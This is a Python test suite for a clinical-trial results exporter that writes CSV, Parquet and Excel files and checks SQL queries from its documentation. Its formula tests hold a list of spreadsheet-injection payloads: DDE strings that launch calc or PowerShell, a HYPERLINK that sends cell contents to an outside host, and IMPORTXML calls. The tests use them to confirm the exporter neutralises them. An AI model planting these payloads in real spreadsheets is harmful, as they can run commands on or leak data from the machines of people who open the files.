"""Rows as CSV, Parquet and Excel, read back by other programs; the questions of docs/query.md."""

import csv
import io
import json
import math
import re
import subprocess
import sys
from dataclasses import asdict, replace
from pathlib import Path

import duckdb
import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from typer.testing import CliRunner

from topline import exports
from topline.cli import app
from topline.errors import ExtraError, InputError, ToplineError
from topline.exports import result_cells, result_columns, status_columns, unprotected
from topline.exports.delimited import protected
from topline.schema import (
    Check,
    Cohort,
    Count,
    Endpoint,
    Evidence,
    Interval,
    Ledger,
    Place,
    PValue,
    Quote,
    Result,
    Source,
    Status,
    Treatment,
    Trial,
    Value,
)

ROOT = Path(__file__).resolve().parents[1]
SENTENCE = "In the trial of zelnotide, the objective response rate was 41.2% among 34 evaluable patients.\n"
NAMES = [column.name for column in result_columns()]
FORMATS = ("csv", "parquet", "xlsx")


def row(name="r1", text="41.2%", number=41.2, **changes):
    """Return a result of an invented filing."""
    held = Result(
        id=name,
        source=Source(
            "a.txt", "0" * 64, items=("8.01", "9.01"), company="Velorin", form_type="8-K", filed="2008-12-12"
        ),
        value=Value(text, 10, 15, ((3, 8), (9, 10)), "percent", number, unit="%"),
        endpoint=Endpoint("objective response rate", 20, 43, None, "ORR", 0.9),
        cohort=Cohort("34 evaluable patients", 50, 71, None, 34, 50, 52, "evaluable", 0.8),
        comparator=None,
        numerator=None,
        time_frame=None,
        ci=None,
        p_value=None,
        treatment=Treatment("zelnotide"),
        trial=Trial("Phase 2"),
        sentence=Place(0, 90),
        where="prose",
        confidence=0.9,
    )
    return replace(held, **changes)


FULL = row(
    "r2",
    comparator=Quote("placebo", 1, 2),
    numerator=Count("14", 1, 2, None, 14),
    time_frame=Quote("12 weeks", 1, 2),
    ci=Interval("95% CI 25 to 59", 1, 2, None, 25.0, 59.0, 95.0),
    p_value=PValue("p=0.01", 1, 2, None, 0.01),
    checks=(Check("numerator", "pass", "14 of 34 is 41.2%"), Check("consistent", "fail", "another place says 42%")),
    derived={"numerator": 14.0},
    duplicates=("r1", "r3"),
    duplicate_of="r1",
    evidence=(Evidence("34", 1, 2, None, "n"),),
)


def write(path, *rows, statuses=(), say=lambda sentence: None):
    with exports.open_rows(path, exports.format_of(path), say) as writer:
        writer.write_all(held if isinstance(held, dict) else held.to_dict() for held in rows)
        for status in statuses:
            writer.write_status(asdict(status), status.file)
    return path


def read_csv(path):
    """Return the cells of a CSV file as DuckDB reads them, null and the empty text told apart."""
    options = "all_varchar = true, header = true, allow_quoted_nulls = false, quote = '\"', escape = '\"', delim = ','"
    return duckdb.sql(f"SELECT * FROM read_csv('{path}', {options}, strict_mode = true)").fetchall()


def typed(cell, column):
    if cell is None or column.kind not in ("integer", "number"):
        return cell if cell is None else unprotected(cell)
    return int(cell) if column.kind == "integer" else float(cell)


def read(path):
    """Return the rows of a file as lists of cells, in the way of each format."""
    columns = result_columns()
    if path.suffix == ".csv":
        # newline="": a carriage return in a cell is a character like any other.
        header, *lines = csv.reader(io.StringIO(path.read_bytes().decode(), newline=""))
        assert header == NAMES
        return [[typed(cell or None, column) for cell, column in zip(line, columns, strict=True)] for line in lines]
    if path.suffix == ".parquet":
        table = pq.read_table(path)
        assert table.column_names == NAMES
        return [list(line.values()) for line in table.to_pylist()]
    header, *lines = openpyxl.load_workbook(path, read_only=True)["results"].iter_rows(values_only=True)
    assert list(header) == NAMES
    return [[unescape(cell) if isinstance(cell, str) else cell for cell in line] for line in lines]


# --- columns ----------------------------------------------------------------------------------------------------------
def test_columns_are_the_fields_of_the_record_named_by_path():
    assert NAMES[:3] == ["schema", "id", "source.file"]
    assert {"value.number", "cohort.n", "source.file", "ci.low", "trial.nct_id", "where", "evidence"} <= set(NAMES)
    assert len(NAMES) == len(set(NAMES))

    def leaves(value, path=""):
        nested = isinstance(value, dict) and path != "derived."
        return (
            [name for key, part in value.items() for name in leaves(part, f"{path}{key}.")] if nested else [path[:-1]]
        )

    assert set(NAMES) == {*leaves(FULL.to_dict()), "checks.failed"}


def test_lists_are_joined_or_json_text():
    cells = dict(zip(NAMES, result_cells(FULL.to_dict(), "here"), strict=True))
    assert cells["duplicates"] == "r1; r3"
    assert cells["source.items"] == "8.01; 9.01"
    assert cells["checks.failed"] == "consistent"
    assert [check["outcome"] for check in json.loads(cells["checks"])] == ["pass", "fail"]
    assert json.loads(cells["evidence"])[0]["role"] == "n"
    assert json.loads(cells["derived"]) == {"numerator": 14.0}
    assert json.loads(cells["value.source"]) == [[3, 8], [9, 10]]
    empty = dict(zip(NAMES, result_cells(row().to_dict(), "here"), strict=True))
    assert [empty[name] for name in ("duplicates", "checks", "checks.failed", "derived", "evidence", "ci.low")] == [
        None
    ] * 6


BAD_ROWS = [
    ({"schema": "topline/2"}, "its schema is 'topline/2'"),
    ({"schema": None}, "its schema is None"),
    ({"value": None}, "is no result row"),
    ({"note": 1}, "`note` is no field"),
    ({"cohort": {"n": 3, "size": 3}}, "`cohort.size` is no field"),
    ({"cohort": "all"}, "`cohort` is 'all', not an object"),
    ({"cohort": {"n": "34"}}, "`cohort.n` is '34'"),
    ({"cohort": {"n": True}}, "`cohort.n` is True"),
    ({"cohort": {"n": 34.5}}, "`cohort.n` is 34.5"),
    ({"cohort": {"n": 2**60}}, "`cohort.n` is 1152921504606846976"),
    ({"confidence": math.inf}, "`confidence` is inf"),
    ({"confidence": math.nan}, "`confidence` is nan"),
    ({"duplicates": ["a", 1]}, "`duplicates` is"),
    ({"checks": "none"}, "`checks` is 'none'"),
    ({"where": 7}, "`where` is 7"),
]


@pytest.mark.parametrize(("change", "said"), BAD_ROWS, ids=[said for _, said in BAD_ROWS])
def test_a_row_that_its_columns_cannot_hold_is_refused(change, said):
    with pytest.raises(InputError, match=re.escape(said)) as fault:
        result_cells({**row().to_dict(), **change}, "rows.jsonl:7")
    assert str(fault.value).startswith("rows.jsonl:7: ")


# --- the files --------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("form", FORMATS)
def test_rows_come_back(tmp_path, form):
    rows = [row(), FULL]
    assert read(write(tmp_path / f"rows.{form}", *rows)) == [result_cells(each.to_dict(), "") for each in rows]


@pytest.mark.parametrize("form", FORMATS)
def test_no_rows_are_a_file_with_all_columns(tmp_path, form):
    assert read(write(tmp_path / f"rows.{form}")) == []


@pytest.mark.parametrize("form", FORMATS)
def test_the_same_rows_give_the_same_bytes(tmp_path, form):
    first, second = (write(tmp_path / f"{name}.{form}", row(), FULL).read_bytes() for name in "ab")
    assert first == second


def test_parquet_has_types(tmp_path):
    types = {field.name: str(field.type) for field in pq.read_schema(write(tmp_path / "rows.parquet"))}
    assert [types[name] for name in ("value.text", "value.number", "cohort.n", "checks")] == [
        "string",
        "double",
        "int64",
        "string",
    ]
    assert set(types.values()) == {"string", "double", "int64"}


def test_parquet_of_many_rows_has_groups(tmp_path, monkeypatch):
    from topline.exports import parquet

    monkeypatch.setattr(parquet, "_GROUP", 3)
    path = write(tmp_path / "rows.parquet", *(row(f"r{k}") for k in range(7)))
    assert pq.ParquetFile(path).num_row_groups == 3
    assert [line[1] for line in read(path)] == [f"r{k}" for k in range(7)]


def test_csv_tells_null_from_the_empty_text(tmp_path):
    path = write(tmp_path / "rows.csv", row(text="", number=None))
    (line,) = read_csv(path)
    cells = dict(zip(NAMES, line, strict=True))
    assert (cells["value.text"], cells["value.number"], cells["ci.text"]) == ("", None, None)


def test_the_workbook_has_header_filter_widths_and_statuses(tmp_path):
    statuses = [
        Status("a.txt", "0" * 64, "results", None, None, 1, 2, Ledger(9, 5, 1, {"date": 3})),
        Status("b.pdf", None, "error", "pdf", "b.pdf: the file is a PDF", warnings=("one", "two")),
    ]
    book = openpyxl.load_workbook(write(tmp_path / "rows.xlsx", row(), FULL, statuses=statuses))
    assert book.sheetnames == ["results", "statuses"]
    for sheet, columns in ((book["results"], result_columns()), (book["statuses"], status_columns())):
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet["A1"].font.bold
        assert all(sheet.column_dimensions[cell.column_letter].width > 7 for cell in sheet[1])
        assert [cell.value for cell in sheet[1]] == [column.name for column in columns]
    header, first, second = (dict(enumerate(line)) for line in book["statuses"].iter_rows(values_only=True))
    at = {name: index for index, name in header.items()}
    assert [first[at[name]] for name in ("file", "status", "rows", "numbers.total")] == ["a.txt", "results", 2, 9]
    assert json.loads(first[at["numbers.set_aside"]]) == {"date": 3}
    assert [second[at[name]] for name in ("reason", "sha256", "warnings")] == ["pdf", None, "one; two"]


def test_what_a_cell_of_excel_cannot_hold_is_cut_and_said(tmp_path):
    said = []
    path = write(tmp_path / "rows.xlsx", row(text="𝛼" * 20_000), row(text="β" * 32_767), say=said.append)
    long, fitting = (dict(zip(NAMES, line, strict=True))["value.text"] for line in read(path))
    assert long.endswith("𝛼… [cut]")
    assert len(long.encode("utf-16-le")) <= 2 * 32_767
    assert fitting == "β" * 32_767
    assert said == ["1 text was cut at 32,767 characters, all that an Excel cell holds; CSV and Parquet hold it whole"]


def test_more_rows_than_a_sheet_holds_are_refused_and_nothing_is_left(tmp_path, monkeypatch):
    from topline.exports import workbook

    monkeypatch.setattr(workbook, "SHEET_LENGTH", 3)
    with pytest.raises(InputError, match="no more than 2 rows"):
        write(tmp_path / "rows.xlsx", row(), row(), row())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", ["jsonl", *FORMATS])
def test_a_file_is_whole_or_not_there(tmp_path, form):
    path = tmp_path / f"rows.{form}"
    path.write_text("old")
    with pytest.raises(ZeroDivisionError), exports.open_rows(path, form) as writer:  # noqa: PT012
        writer.write(row().to_dict(), "")
        raise ZeroDivisionError
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize(
    ("form", "library", "extra"), [("parquet", "pyarrow", "parquet"), ("xlsx", "xlsxwriter", "excel")]
)
def test_a_missing_extra_says_how_to_install_it(tmp_path, monkeypatch, form, library, extra):
    for name in [name for name in sys.modules if name.split(".")[0] == library]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, library, None)
    path = tmp_path / f"rows.{form}"
    with pytest.raises(ExtraError, match=rf"pip install 'topline\[{extra}\]'"):
        write(path)
    result = CliRunner().invoke(app, ["extract", str(tmp_path), "-o", str(path), "--model", "rules"])
    assert isinstance(result.exception, ExtraError)
    assert list(tmp_path.iterdir()) == []


# --- formulas ---------------------------------------------------------------------------------------------------------
SIGNS = "=+-@|%＝＋－＠"
CALLS = ("cmd|' /C calc'!A0", "1+1", "A1", 'HYPERLINK("http://velorin.example?"&A1,"a")', "SUM(1;2)", "(1)")
PAYLOADS = [
    *(sign + call for sign in SIGNS for call in CALLS),
    *(before + call for before in ("\t", "\r", "\n", " ", "\u00a0", "\u3000") for call in ("=1+1", "@A1")),
    "\ufeff=1+1", "\u200b@A1", "\x00=1+1",
    *("'" + call for call in ("=1+1", "-A1", "@A1", "'=1", "''+A1")),
    'DDE("cmd";"/C calc";"a")', '=DDE("cmd";"/C calc";"a")', '=cmd|\'/C powershell\'!_xlbgnm.A1', '"=1"', "=1,=2",
    "=1;=2", '";=1+1', "-2+3+cmd|' /C calc'!A0", '=IMPORTXML("http://velorin.example","//a")', "-12% (p<0.01)",
]  # fmt: skip
UNHARMED = [
    "-12.3 mmHg",
    "-12.3%",
    "-12.3",
    "-1.2 mg/dL",
    "+3.5 percentage points",
    "%",
    "=",
    "-",
    "41.2%",
    "'quoted'",
    "'-12.3 mmHg",
]


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


def test_no_payload_is_a_formula_in_csv(tmp_path):
    path = write(tmp_path / "rows.csv", *(row(text=text, number=-12.5) for text in PAYLOADS))
    at = NAMES.index("value.text")
    raw = [line[at] for line in list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))[1:]]
    for text, cell in zip(PAYLOADS, raw, strict=True):
        assert unprotected(cell) == text
        visible = re.sub(r"[\s\x00\ufeff\u200b]", "", cell)
        assert visible[0] not in SIGNS
    # A number is one, whatever its sign: no quotes, no apostrophe.
    assert path.read_bytes().decode().count('"percent",-12.5,') == len(PAYLOADS)


def test_payloads_are_text_in_excel_and_negative_numbers_numbers(tmp_path):
    path = write(tmp_path / "rows.xlsx", *(row(text=text, number=-12.5) for text in [*PAYLOADS, *UNHARMED]))
    sheet = openpyxl.load_workbook(path)["results"]
    texts, numbers = (
        next(sheet.iter_cols(NAMES.index(name) + 1, NAMES.index(name) + 1, 2))
        for name in ("value.text", "value.number")
    )
    assert [unescape(cell.value) for cell in texts] == [*PAYLOADS, *UNHARMED]
    assert {cell.data_type for cell in texts} <= {"s", "inlineStr"}
    assert {(cell.data_type, cell.value) for cell in numbers} == {("n", -12.5)}
    assert all(
        cell.quotePrefix for cell in texts if protected(cell.value) == "'" + cell.value and cell.value[0] in "=+-@"
    )
    assert not any(cell.hyperlink for cell in texts)


@pytest.mark.parametrize("text", UNHARMED)
def test_what_is_no_formula_is_unharmed(text):
    assert protected(text) == text == unprotected(text)


@given(st.text(st.sampled_from("'=-+@ a1\t|%"), max_size=8))
def test_every_text_comes_back_from_csv(text):
    assert unprotected(protected(text)) == text


# --- any rows ---------------------------------------------------------------------------------------------------------
# No surrogates, which no encoding takes; nor the two code points that XML has no way to write.
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"), min_size=1, max_size=12)
MAYBE = st.none() | TEXT
NUMBER = st.none() | st.floats(allow_nan=False, allow_infinity=False)
WHOLE = st.integers(-(2**53), 2**53)
ANY_ROWS = st.builds(
    row,
    TEXT,
    TEXT,
    NUMBER,
    source=st.builds(Source, TEXT, TEXT, st.none() | WHOLE, company=MAYBE, items=st.lists(TEXT, max_size=2).map(tuple)),
    cohort=st.none() | st.builds(Cohort, TEXT, WHOLE, WHOLE, n=st.none() | WHOLE, confidence=NUMBER),
    ci=st.none() | st.builds(Interval, TEXT, WHOLE, WHOLE, low=NUMBER, high=NUMBER, level=NUMBER),
    checks=st.lists(st.builds(Check, TEXT, st.sampled_from(["pass", "fail"]), TEXT), max_size=2).map(tuple),
    derived=st.dictionaries(TEXT, st.floats(allow_nan=False, allow_infinity=False), max_size=2),
    where=TEXT,
)


@pytest.mark.parametrize("form", FORMATS)
@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(rows=st.lists(ANY_ROWS, max_size=3))
def test_any_rows_come_back(tmp_path, form, rows):
    path = write(tmp_path / f"rows.{form}", *rows)
    expected = [result_cells(each.to_dict(), "") for each in rows]
    if form == "xlsx":
        # A workbook has numbers to 16 digits; what a filing prints has fewer.
        expected = [[float(f"{cell:.16G}") if isinstance(cell, float) else cell for cell in line] for line in expected]
    assert read(path) == expected


def test_lone_surrogates_become_a_sign(tmp_path):
    for form in FORMATS:
        (line,) = read(write(tmp_path / f"rows.{form}", row(text="a\ud800b")))
        assert line[NAMES.index("value.text")] == "a\N{REPLACEMENT CHARACTER}b"


# --- commands ---------------------------------------------------------------------------------------------------------
def run(*args):
    return CliRunner().invoke(app, list(map(str, args)))


@pytest.fixture
def filing(tmp_path):
    path = tmp_path / "good.txt"
    path.write_text(SENTENCE)
    return path


@pytest.fixture
def rows_file(tmp_path):
    path = tmp_path / "rows.jsonl"
    path.write_text("".join(json.dumps(each.to_dict()) + "\n" for each in (row(), FULL)))
    return path


def test_extract_writes_what_the_ending_or_the_option_says(tmp_path, filing):
    for name, options in (("rows.csv", []), ("rows.parquet", []), ("rows.xlsx", []), ("table", ["--format", "csv"])):
        result = run("extract", filing, "-o", tmp_path / name, "--model", "rules", *options)
        assert (result.exit_code, result.stdout) == (0, "")
    (tmp_path / "table").rename(tmp_path / "table.csv")
    files = [read(tmp_path / name) for name in ("rows.csv", "rows.parquet", "rows.xlsx", "table.csv")]
    assert files == [files[0]] * 4
    assert dict(zip(NAMES, files[0][0], strict=True))["value.number"] == 41.2
    statuses = list(openpyxl.load_workbook(tmp_path / "rows.xlsx")["statuses"].iter_rows(values_only=True))
    assert statuses[1][2] == "results"
    printed = run("extract", filing, "--format", "csv", "--model", "rules").stdout
    assert printed == (tmp_path / "table.csv").read_text()


def test_export_turns_rows_and_runs_into_files(tmp_path, rows_file):
    folder = tmp_path / "run"
    folder.mkdir()
    (folder / "results.jsonl").write_bytes(rows_file.read_bytes())
    status = asdict(Status("a.txt", "0", "results", rows=2))
    (folder / "statuses.jsonl").write_text(json.dumps(status) + "\n")
    for form in FORMATS:
        result = run("export", rows_file, folder, "-o", tmp_path / f"all.{form}")
        assert (result.exit_code, result.stdout) == (0, "")
        assert result.stderr == f"{tmp_path}/all.{form}: 4 rows\n"
        assert [line[1] for line in read(tmp_path / f"all.{form}")] == ["r1", "r2", "r1", "r2"]
    book = openpyxl.load_workbook(tmp_path / "all.xlsx")
    assert book["statuses"]["A2"].value == "a.txt"
    run("export", rows_file, "-o", tmp_path / "other.xlsx", "--status", folder / "statuses.jsonl")
    assert openpyxl.load_workbook(tmp_path / "other.xlsx")["statuses"]["A2"].value == "a.txt"
    assert run("export", rows_file, "-o", "-", "--format", "jsonl").stdout.count("\n") == 2


BAD = [
    (["export", "absent.jsonl", "-o", "a.csv"], "absent.jsonl: cannot be read"),
    (["export", "empty", "-o", "a.csv"], "empty: holds no results.jsonl"),
    (["export", "broken.jsonl", "-o", "a.csv"], "broken.jsonl:2: is no JSON"),
    (["export", "broken.jsonl", "-o", "a.jsonl"], "broken.jsonl:2: is no JSON"),
    (["export", "list.jsonl", "-o", "a.csv"], "list.jsonl:1: is no JSON object"),
    (["export", "gold.jsonl", "-o", "a.parquet"], "gold.jsonl:1: is no result row"),
    (["export", "binary.jsonl", "-o", "a.xlsx"], "binary.jsonl:1: is no JSON"),
    (["export", "rows.jsonl", "-o", "rows.jsonl"], "would be written over"),
    (["export", "rows.jsonl", "-o", "absent/a.csv"], "cannot be written"),
    (["export", "rows.jsonl", "-o", "a.csv", "--format", "pickle"], "is no format"),
    (["export", "rows.jsonl", "-o", "-", "--format", "xlsx"], "name a file"),
    (["export", "rows.jsonl", "-o", "a.xlsx", "--status", "gold.jsonl"], "gold.jsonl:1: `id` is no field"),
    (["extract", "rows.jsonl", "-o", "a.csv", "--format", "pickle"], "is no format"),
    (["extract", "rows.jsonl", "--format", "parquet"], "name a file"),
]


@pytest.mark.parametrize(("args", "said"), BAD, ids=[" ".join(args) for args, _ in BAD])
def test_bad_input_is_a_known_error_and_leaves_nothing(tmp_path, rows_file, monkeypatch, args, said):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty").mkdir()
    (tmp_path / "broken.jsonl").write_text(rows_file.read_text().splitlines()[0] + "\n{\n")
    (tmp_path / "list.jsonl").write_text("[]\n")
    (tmp_path / "gold.jsonl").write_text('{"id": "a", "mentions": []}\n')
    (tmp_path / "binary.jsonl").write_bytes(b"\xff\xfe\x00\n")
    before = sorted(tmp_path.iterdir())
    result = run(*args)
    assert isinstance(result.exception, ToplineError)
    assert said in str(result.exception)
    assert "\n" not in str(result.exception)
    assert sorted(tmp_path.iterdir()) == before


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["export", "rows.jsonl", "-o", "rows"], "name one with --format"),
        (["export", "rows.jsonl"], "Missing option"),
        (["extract", "a.txt", "--jobs", "2", "-o", "rows.csv"], "write into a folder"),
        (["extract", "a.txt", "--jobs", "2", "-o", "rows", "--format", "csv"], "topline export FOLDER"),
    ],
)
def test_wrong_usage_exits_with_2(args, said):
    result = run(*args)
    assert result.exit_code == 2
    assert said in " ".join(result.stderr.split())


def test_a_known_error_is_one_sentence_without_a_traceback(tmp_path):
    code = "from topline.cli import main; main()"
    command = [sys.executable, "-c", code, "export", "absent.jsonl", "-o", "a.csv"]
    held = subprocess.run(command, capture_output=True, text=True, check=False, cwd=tmp_path)
    assert (held.returncode, held.stdout) == (1, "")
    assert held.stderr == "topline: absent.jsonl: cannot be read (No such file or directory); check the path\n"


# --- docs/query.md ----------------------------------------------------------------------------------------------------
PAGE = (ROOT / "docs" / "query.md").read_text("utf-8")
QUESTIONS = re.findall(r"^## ([0-9]+)\. [^\n]+\n\n```sql\n([^`]+)```$", PAGE, re.MULTILINE)


def source(file, company, filed):
    return Source(file, "0" * 64, company=company, form_type="8-K", filed=filed)


OLD, NEW, OTHER = (
    source("old.txt", "Velorin", "2008-06-01"),
    source("new.txt", "Velorin", "2008-12-12"),
    source("other.txt", "Corvane", "2008-07-01"),
)
ARM = Cohort("patients on placebo", 1, 2, n=112)
ANSWERED = [
    row("a1", "30.0%", 30.0, source=OLD),
    row("a2", "41.2%", 41.2, source=NEW),
    row("a3", "42%", 42.0, source=NEW, duplicate_of="a2", treatment=Treatment("Zelnotide"),
        checks=(Check("consistent", "fail", "another place says 41.2%"),
                Check("count_feasible", "fail", "no count of 34"))),
    row("b1", "12.0%", 12.0, source=OTHER, treatment=Treatment("Qarvane"), cohort=ARM, confidence=0.3),
    row("b2", "0.61", 0.61, source=OTHER, treatment=Treatment("Qarvane"), cohort=ARM, comparator=Quote("placebo", 1, 2),
        value=Value("0.61", 10, 14, None, "ratio", 0.61), endpoint=Endpoint("hazard ratio for death", 1, 2),
        ci=Interval("0.40 to 0.93", 1, 2, None, 0.4, 0.93, 95.0), p_value=PValue("p=0.021", 1, 2, None, 0.021)),
    row("b3", "0.9", 0.9, source=OTHER, value=Value("0.9", 20, 23, None, "ratio", 0.9), endpoint=Endpoint("HR", 1, 2),
        p_value=PValue("p>0.05", 1, 2, None, 0.05, ">")),
    row("b4", "7.4 months", 7.4, source=OTHER, value=Value("7.4 months", 30, 40, None, "duration", 7.4, unit="months"),
        endpoint=Endpoint("PFS", 1, 2, None, "PFS"), ci=Interval("5.8 to 9.1", 1, 2, None, 5.8, 9.1)),
    row("b5", "not reached", None, source=OTHER, value=Value("not reached", 40, 51, None, "duration"),
        endpoint=Endpoint("median survival", 1, 2, None, "OS")),
]  # fmt: skip
ANSWERS = {
    "1": [
        ("Qarvane", 12.0, "patients on placebo", 112, "Corvane", "2008-07-01"),
        ("zelnotide", 41.2, "34 evaluable patients", 34, "Velorin", "2008-12-12"),
    ],
    "2": [
        ("Corvane", "hazard ratio for death", "=0.61", 95.0, 0.4, 0.93, "=0.021", True),
        ("Corvane", "HR", "=0.9", None, None, None, ">0.05", None),
    ],
    "3": [("new.txt", "objective response rate", "42%", "another place says 41.2%")],
    "4": [("consistent", 1, "another place says 41.2%"), ("count_feasible", 1, "no count of 34")],
    "5": [
        ("2008-06-01", "8-K", "Velorin", "old.txt", 1, 1, 0),
        ("2008-07-01", "8-K", "Corvane", "other.txt", 5, 5, 1),
        ("2008-12-12", "8-K", "Velorin", "new.txt", 2, 1, 1),
    ],
    "6": [
        (112, "patients on placebo", "Phase 2", "other.txt", 2),
        (34, "34 evaluable patients", "Phase 2", "new.txt", 2),
        (34, "34 evaluable patients", "Phase 2", "old.txt", 1),
        (34, "34 evaluable patients", "Phase 2", "other.txt", 3),
    ],
    "7": [
        ("zelnotide", "OS", "not reached", None, None, 34, "other.txt"),
        ("zelnotide", "PFS", "7.4 months", 5.8, 9.1, 34, "other.txt"),
    ],
    "8": [("Corvane", "hazard ratio for death", "0.61", "placebo", "p=0.021")],
    "9": [
        ("a3", "new.txt", "42%", "objective response rate", "34 evaluable patients", 0.9, "consistent; count_feasible"),
        ("b1", "other.txt", "12.0%", "objective response rate", "patients on placebo", 0.3, None),
    ],
    "10": [
        ("Qarvane", "2008-07-01", 12.0, 112, None),
        ("zelnotide", "2008-06-01", 30.0, 34, None),
        ("zelnotide", "2008-12-12", 41.2, 34, 11.2),
    ],
}


def test_the_page_asks_ten_questions():
    assert [number for number, _ in QUESTIONS] == list(ANSWERS)
    assert PAGE.count("```sql") == 10


@pytest.mark.parametrize(("number", "question"), QUESTIONS, ids=[number for number, _ in QUESTIONS])
def test_a_question_gets_its_answer(tmp_path, monkeypatch, number, question):
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "rows.parquet", *ANSWERED)
    assert duckdb.sql(question).fetchall() == ANSWERS[number]


def test_the_python_of_the_page_holds():
    (code,) = re.findall(r"```python\n([^`]+)```", PAGE)
    exec(code, {})
